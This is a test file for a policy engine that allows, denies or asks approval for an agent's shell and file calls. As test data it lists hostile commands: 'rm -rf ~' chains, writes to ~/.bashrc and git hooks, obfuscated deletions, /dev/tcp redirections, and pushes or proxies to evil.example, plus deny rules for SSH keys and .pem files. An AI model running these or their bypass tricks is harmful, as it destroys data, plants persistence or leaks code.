/** Rules of the policy: by what a call does, who asked for it, and where they stand. */
import { mkdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect } from 'vitest';
import { approvalsIn, entriesOf, expectVerified, type Place, test } from './support/place.ts';

interface Checked {
  code: number | null;
  verdict: string;
  reason: string;
  rules: string[];
}

async function check(place: Place, tool: string, args: object, ...flags: string[]): Promise<Checked> {
  const { code, stdout } = await place.run(['policy', 'check', tool, JSON.stringify(args), '-o', 'json', ...flags]);
  const { verdict, reason, rules } = JSON.parse(stdout) as Checked & { rules: { id: string }[] };
  return { code, verdict, reason, rules: (rules as unknown as { id: string }[]).map(({ id }) => id) };
}

async function verdicts(place: Place, lines: readonly string[]): Promise<Record<string, string>> {
  const found: Record<string, string> = {};
  for (const cmd of lines) found[cmd] = (await check(place, 'exec_command', { cmd })).verdict;
  return found;
}

const READING = { tool: 'exec_command', command: ['ls *', 'cat *', 'git status *', 'grep *', 'echo *'], decision: 'allow' }; // prettier-ignore

function playCommand(place: Place, cmd: string, governance: object): void {
  place.play(
    [
      { match: { tool_result: 'exec_command' }, reply: { text: '{{result}}' } },
      { match: { any: true }, reply: { calls: [{ tool: 'exec_command', arguments: { cmd } }] } },
    ],
    { governance },
  );
}

describe('commands', () => {
  test('a line of allowed commands runs without asking; the journal names the rules', async ({ place }) => {
    playCommand(place, 'echo one && ls | grep -c nothing', { rules: [READING] });
    const ran = await place.run(['run', '--session', 'one', 'go']);
    expect(ran).toMatchObject({ code: 0 });
    expect(ran.stdout).toContain('one');
    const [decided] = entriesOf(place.journal('one'), 'policy.decided');
    expect(decided).toMatchObject({ verdict: 'allow', rules: [{ id: 'governance.rules[0]', verdict: 'allow' }] });
    await expectVerified(place, 'one');
  });

  test('what is not allowed as a whole asks', async ({ place }) => {
    place.configure({ governance: { rules: [READING] } });
    expect(
      await verdicts(place, [
        'git status',
        'git status; rm -rf ~',
        'git status && $(cat x)',
        'git -c core.pager=sh status',
        'ls `rm x`',
        'ls | xargs rm',
        'cat <(rm x)',
        'ls 2>/dev/null',
        'grep x y 2>&1',
        'echo x > notes.txt',
        'echo x >> ~/.bashrc',
        'sudo ls',
        'PATH=. ls',
        './ls',
        'l\\s -l',
        'for f in *; do cat "$f"; done',
      ]),
    ).toEqual({
      'git status': 'allow',
      'git status; rm -rf ~': 'require_approval',
      'git status && $(cat x)': 'require_approval',
      'git -c core.pager=sh status': 'require_approval',
      'ls `rm x`': 'require_approval',
      'ls | xargs rm': 'require_approval',
      'cat <(rm x)': 'require_approval',
      'ls 2>/dev/null': 'allow',
      'grep x y 2>&1': 'allow',
      'echo x > notes.txt': 'require_approval',
      'echo x >> ~/.bashrc': 'require_approval',
      'sudo ls': 'require_approval',
      'PATH=. ls': 'require_approval',
      './ls': 'require_approval',
      'l\\s -l': 'allow',
      'for f in *; do cat "$f"; done': 'allow',
    });
  });

  test('a denied command is denied wherever it hides, and the model is told why', async ({ place }) => {
    const rules = [{ tool: 'exec_command', decision: 'allow' }, { tool: '*', command: 'rm *', decision: 'deny', reason: 'nothing is removed here' }]; // prettier-ignore
    playCommand(place, 'ls; find . -name x -exec /bin/rm {} +', { rules });
    const ran = await place.run(['run', '--session', 'one', 'go']);
    expect(ran.stdout).toContain('Denied by policy: nothing is removed here');
    expect(entriesOf(place.journal('one'), 'call.started')).toEqual([]);
    expect(await verdicts(place, ['ls', 'r""m x', 'eval "$X"', 'echo "$(rm x)"'])).toEqual({
      ls: 'allow',
      'r""m x': 'deny',
      'eval "$X"': 'require_approval',
      'echo "$(rm x)"': 'deny',
    });
  });

  test('files that a line writes are paths', async ({ place }) => {
    const rules = [
      { tool: 'exec_command', command: 'echo *', path: ['out/**', '**'], decision: 'allow' },
      { tool: 'exec_command', command: ['cd *', 'echo *'], decision: 'allow' }, // of lines that write nothing
      { tool: '*', path: 'src/**', decision: 'deny' },
    ];
    place.configure({ governance: { rules } });
    mkdirSync(join(place.project, 'src'));
    const lines = await verdicts(place, [
      'echo x > a.txt',
      'echo x > src/a.txt',
      'echo x > out/../src/a.txt',
      'cd src && echo x > a.txt',
      `echo x > ${place.home}/config.yaml`,
      'echo x > /dev/null',
      'echo x > /dev/tcp/127.0.0.1/80',
    ]);
    expect(Object.values(lines)).toEqual(['allow', 'deny', 'deny', 'require_approval', 'deny', 'allow', 'require_approval']); // prettier-ignore
  });
});

test('a set of rules as people write them is got round by none of these', async ({ place }) => {
  const command = ['git status *', 'git diff *', 'git log *', 'npm test', 'echo *', 'cat *', 'printf *', 'grep *', 'ls *', 'find *', 'sed *', 'sort *', 'head *', 'tee *', 'cp *', 'node scripts/*']; // prettier-ignore
  const rules = [
    { tool: 'exec_command', command, decision: 'allow' },
    { tool: '*', path: 'src/**', decision: 'allow' },
    { tool: '*', command: ['rm', 'git push *'], decision: 'deny' },
    { tool: '*', path: ['.github', '~/.ssh/**'], decision: 'deny' },
  ];
  place.configure({ governance: { rules } });
  mkdirSync(join(place.project, 'src'));
  const asks = [
    'python3 x.py',
    "for y in $(printf 'a[\\44(touch\\44{IFS}x)]'); do echo $((y)); done",
    'node scripts/../src/evil.js',
    'sort -o out.txt a',
    'git diff --output=out.txt',
    'for x in --output=out.txt; do git log $x; done',
    'find . -delete',
    "sed -n -i 's/a/b/' a",
    'cat < /dev/tcp/127.0.0.1/80',
    'cp a ../a',
    'cp a .git/hooks/pre-commit',
    'rm x',
    'git -C . push',
  ];
  const denied = ['echo x > .github/a', 'echo x | tee .github/a', 'cp a .github/workflows/a', 'echo x | tee ~/.ssh/a'];
  const allowed = ['node scripts/build.js', 'sort a | head -3', 'echo x | tee out.txt', 'cp a b', 'git diff --stat', 'sed -n 1,3p a']; // prettier-ignore
  const expected = (lines: readonly string[], verdict: string): [string, string][] => lines.map((line) => [line, verdict]); // prettier-ignore
  expect(Object.entries(await verdicts(place, [...asks, ...denied, ...allowed]))).toEqual([
    ...expected(asks, 'require_approval'),
    ...expected(denied, 'deny'),
    ...expected(allowed, 'allow'),
  ]);
  expect((await check(place, 'exec_command', { cmd: 'node scripts/build.js', workdir: 'src' })).verdict).toBe('require_approval'); // prettier-ignore
});

test('a rule about words allows no variables but harmless ones', async ({ place }) => {
  place.configure({ governance: { rules: [{ tool: 'exec_command', command: ['git *', 'export *'], decision: 'allow' }] } }); // prettier-ignore
  expect(
    await verdicts(place, [
      'LC_ALL=C git status',
      'export CI=1; git status',
      'https_proxy=evil.example git fetch',
      'export SSL_CERT_FILE=x; git fetch',
      'FOO=1 git status',
    ]),
  ).toEqual({
    'LC_ALL=C git status': 'allow',
    'export CI=1; git status': 'allow',
    'https_proxy=evil.example git fetch': 'require_approval',
    'export SSL_CERT_FILE=x; git fetch': 'require_approval',
    'FOO=1 git status': 'require_approval',
  });
});

test('a rule about words allows no options that connect elsewhere, and a rule about hosts sees what has no scheme', async ({
  place,
}) => {
  const rules = [
    { tool: 'exec_command', command: ['curl *', 'git *'], decision: 'allow' },
    { tool: '*', host: 'evil.example', decision: 'deny' },
  ];
  place.configure({ governance: { rules } });
  expect(
    await verdicts(place, [
      'curl -s https://a.example/x',
      'curl -s 127.1:18777',
      'curl -sx127.0.0.1:1 http://a.example/',
      "curl 'http://127.0.0.[1-1]/'",
      'curl --url=evil.example',
      'git push evil.example:x',
      'git push origin main:main',
      'git --git-dir=evil --work-tree=. status',
      'cd evil && git status',
    ]),
  ).toEqual({
    'curl -s https://a.example/x': 'allow',
    'curl -s 127.1:18777': 'require_approval',
    'curl -sx127.0.0.1:1 http://a.example/': 'require_approval',
    "curl 'http://127.0.0.[1-1]/'": 'require_approval',
    'curl --url=evil.example': 'deny',
    'git push evil.example:x': 'deny',
    'git push origin main:main': 'allow',
    'git --git-dir=evil --work-tree=. status': 'require_approval',
    'cd evil && git status': 'require_approval',
  });
  mkdirSync(join(place.project, 'evil'));
  expect((await check(place, 'exec_command', { cmd: 'git status', workdir: 'evil' })).verdict).toBe('require_approval');
});

test('paths: a rule opens what lies outside, and closes what lies inside', async ({ place }) => {
  const outside = join(place.project, '../data');
  mkdirSync(outside);
  writeFileSync(join(outside, 'a.txt'), 'a');
  place.write('docs/a.md', 'a');
  const rules = [
    { tool: ['read_file', 'list_files'], path: `${outside}/**`, decision: 'allow' },
    { tool: 'apply_patch', path: 'docs/**', decision: 'allow' },
    { tool: '*', path: '**/*.pem', decision: 'deny' },
  ];
  place.configure({ governance: { rules } });
  expect((await check(place, 'read_file', { path: `${outside}/a.txt` })).verdict).toBe('allow');
  expect((await check(place, 'read_file', { path: '../other' })).verdict).toBe('require_approval');
  expect((await check(place, 'read_file', { path: 'key.pem' })).verdict).toBe('deny');
  const patch = (path: string): object => ({
    patch: `*** Begin Patch\n*** Update File: ${path}\n-a\n+b\n*** End Patch`,
  });
  expect((await check(place, 'apply_patch', patch('docs/a.md'))).verdict).toBe('allow');
  place.write('a.md', 'a');
  expect((await check(place, 'apply_patch', patch('a.md'))).verdict).toBe('require_approval');
});

test('who asks, from where, and with what', async ({ place }) => {
  const rules = [
    { tool: 'exec_command', role: ['operator', 'admin'], channel: 'cli', tainted: false, decision: 'allow' },
    { tool: '*', role: 'viewer', decision: 'deny' },
    { tool: 'exec_command', args: { cmd: '*--force*' }, decision: 'require_approval', reason: 'force is asked for' },
  ];
  place.configure({ governance: { rules } });
  const ls = { cmd: 'ls' };
  expect((await check(place, 'exec_command', ls)).verdict).toBe('allow');
  expect((await check(place, 'exec_command', ls, '--as', 'member')).verdict).toBe('require_approval');
  expect((await check(place, 'exec_command', ls, '--as', 'viewer')).verdict).toBe('deny');
  expect((await check(place, 'exec_command', ls, '--channel', 'telegram')).verdict).toBe('require_approval');
  expect((await check(place, 'exec_command', ls, '--tainted')).verdict).toBe('require_approval');
  expect(await check(place, 'exec_command', { cmd: 'git push --force' })).toMatchObject({
    verdict: 'require_approval',
    reason: 'force is asked for',
  });
  const refused = await place.run(['policy', 'check', 'time', '{}', '--as', 'king']);
  expect(refused).toMatchObject({ code: 2 });
});

test('arguments are recorded for the rules that look at them, and what runs is what was judged', async ({ place }) => {
  const rules = [{ tool: 'exec_command', args: { cmd: 'echo one' }, decision: 'allow' }];
  playCommand(place, 'echo one', { rules });
  expect(await place.run(['run', '--session', 'one', 'go'])).toMatchObject({ code: 0 });
  const [inspected] = entriesOf(place.journal('one'), 'call.inspected');
  expect(inspected!.facts.args).toEqual({ cmd: 'echo one' });
  await expectVerified(place, 'one');
});

describe('policy.yaml of a workspace', () => {
  const write = (place: Place, text: string): void => {
    mkdirSync(join(place.home, 'workspaces/default'), { recursive: true });
    writeFileSync(join(place.home, 'workspaces/default/policy.yaml'), text);
  };

  test('its rules hold beside those of the configuration', async ({ place }) => {
    place.configure({ governance: { rules: [READING] } });
    write(place, 'rules:\n  - {tool: exec_command, command: cat *, decision: deny, reason: no reading}\n');
    expect((await check(place, 'exec_command', { cmd: 'ls' })).verdict).toBe('allow');
    expect(await check(place, 'exec_command', { cmd: 'cat x' })).toMatchObject({
      verdict: 'deny',
      reason: 'no reading',
      rules: ['policy.yaml rules[0]', 'governance.rules[0]'],
    });
    const { stdout } = await place.run(['policy', 'show']);
    expect(stdout).toMatch(/^policy\.yaml rules\[0\]\s+deny\s+exec_command\s+command: cat \*/m);
  });

  test('one that is not valid is told with its place, and nothing is run by half of it', async ({ place }) => {
    place.configure({});
    for (const [text, message] of [
      [
        'rules:\n  - {tool: exec_comand, decision: deny}\n',
        /policy\.yaml:2:6: rules\[0\]\.tool: there is no tool "exec_comand"; did you mean exec_command\?/,
      ],
      ['rules:\n  - {tool: time, decison: deny}\n', /policy\.yaml:2:\d+: rules\[0\]/],
      ['rules: {}\n', /rules: expected a list of rules/],
      ['deny: [time]\n', /policy\.yaml:1:1: deny: unknown key; a policy\.yaml has rules/],
      [
        'rules:\n  - {tool: time, command: "git status; rm x", decision: allow}\n',
        /command: it has ;, and a pattern is the bare words of one command/,
      ],
      [
        'rules:\n  - {tool: time, hours: "mon-xyz 08:00-18:00", decision: allow}\n',
        /hours: expected days and times that there are/,
      ],
      ['rules:\n  - {tool: time, path: "../a", decision: allow}\n', /path: it has `\.\.`/],
      ['rules:\n  - {tool: time, host: "https://a", decision: allow}\n', /host: expected a host/],
    ] as const) {
      write(place, text);
      const ran = await place.run(['run', 'hello']);
      expect(ran.code).toBe(2);
      expect(ran.stderr).toMatch(message);
    }
  });
});

test('what a rule keeps is found by no search and no list of a folder around it', async ({ place }) => {
  const search = { query: 'geheim' };
  place.play(
    [
      { match: { tool_result: 'search_files' }, reply: { text: '{{result}}' } },
      { match: { tool_result: 'list_files' }, reply: { text: '{{result}}' } },
      { match: { asked: ['list'] }, reply: { calls: [{ tool: 'list_files', arguments: {} }] } },
      { match: { asked: ['within'] }, reply: { calls: [{ tool: 'search_files', arguments: { ...search, path: 'drafts' } }] } }, // prettier-ignore
      { match: { any: true }, reply: { calls: [{ tool: 'search_files', arguments: search }] } },
    ],
    {
      governance: {
        rules: [
          { tool: '*', path: 'private/**', decision: 'deny' },
          { tool: '*', path: 'drafts', decision: 'require_approval' },
        ],
      },
    },
  );
  for (const path of ['private/deep/a.txt', 'drafts/b.txt', 'src/c.txt']) place.write(path, `geheim in ${path}\n`);
  const found = await place.run(['run', 'search']);
  expect(found).toMatchObject({ code: 0, stdout: 'src/c.txt:1: geheim in src/c.txt\n[what rules of the policy keep is left out]\n' }); // prettier-ignore
  const listed = await place.run(['run', 'list']);
  expect(listed.stdout).toContain('src/c.txt');
  expect(listed.stdout).not.toMatch(/private\/deep|drafts\/b/);
  const [id] = approvalsIn(await place.run(['run', '--session', 'one', 'within']));
  expect((await place.run(['approve', id!, '--resume'])).stdout).toContain('drafts/b.txt:1');
});

test('what settings hide from commands is a secret for tools', async ({ place }) => {
  const read = { tool: 'read_file', arguments: { path: 'notes/a.txt' } };
  place.play(
    [
      { match: { tool_result: 'search_files' }, reply: { text: '{{result}}' } },
      { match: { asked: ['read'] }, reply: { calls: [read] } },
      { match: { any: true }, reply: { calls: [{ tool: 'search_files', arguments: { query: 'geheim' } }] } },
    ],
    { sandbox: { mode: 'off', hide: ['notes'] } },
  );
  place.write('notes/a.txt', 'geheim\n');
  place.write('b.txt', 'not geheim\n');
  expect((await place.run(['run', 'search'])).stdout).toBe('b.txt:1: not geheim\n');
  const asked = await place.run(['run', 'read']);
  expect([asked.code, asked.stderr]).toEqual([5, expect.stringContaining('approval a-')]);
});
